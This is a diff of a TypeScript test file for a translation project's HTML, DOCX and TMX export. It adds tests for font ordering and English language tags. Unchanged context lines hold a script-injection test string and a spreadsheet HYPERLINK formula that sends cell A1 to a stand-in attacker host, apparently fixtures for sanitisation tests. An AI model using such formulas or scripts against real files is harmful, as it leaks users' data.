@@ -313,6 +313,18 @@ describe('HTML', () => {
     expect(cells[4]!.slice(1, 3)).toEqual(['', EN.note.replace(BELL, '')]);
     expect(cells[5]!.at(-1)).toBe('error <script>alert(1)</script>');
   });
+
+  it('sets English and Russian text in a Latin font wherever one is installed, never first in a CJK font', async () => {
+    // A CJK font's Latin has full-width quotes (“ ”) and its own letter shapes; a machine with a CJK
+    // font but neither Noto Serif nor Times New Roman (Debian with fonts-noto-cjk) used it for every
+    // English and Russian cell. The generic serif must come before the first CJK font.
+    const html = await exportText(sampleProject(), 'html');
+    const stack = /body\{font-family:([^;}]+)/.exec(html)![1]!.split(',').map((f) => f.trim().replace(/"/g, ''));
+    const firstCjk = stack.findIndex((f) => /CJK|Han|Song|SimSun|Hei|Ming|Kai/i.test(f));
+    expect(firstCjk).toBeGreaterThan(-1);
+    expect(stack.indexOf('serif')).toBeGreaterThan(-1);
+    expect(stack.indexOf('serif')).toBeLessThan(firstCjk);
+  });
 });
 
 const HYPERLINK_TEXT = '=HYPERLINK("http://evil.example/?d="&A1,"Click")';
@@ -422,6 +434,18 @@ describe('DOCX', () => {
     expect(doc).toMatch(/w:rFonts [^>]*w:hint="eastAsia"/);
     // The ru omission (row 3) is shaded for the reviewer.
     expect(doc).toMatch(/w:fill="FFF4CC"/);
+  });
+
+  it("tags English cells with the project's English variant, as TMX and XLIFF do", async () => {
+    // Word spell-checks each run in its tagged language: an American draft tagged en-GB shows every
+    // "defense" and "program" as a spelling error to the reviewer.
+    const p = sampleProject();
+    p.settings.englishVariant = 'en-US';
+    const { doc } = await docxParts((await exportProject(p, 'docx', { date: DATE })).data as Uint8Array);
+    expect(doc).toMatch(/<w:lang w:val="en-US"/);
+    expect(doc).not.toMatch(/<w:lang w:val="en-GB"/);
+    const tmx = await exportText(p, 'tmx', { targets: ['en'] });
+    expect(tmx).toContain('xml:lang="en-US"');
   });
 
   it('a bilingual table when only one target is asked for', async () => {
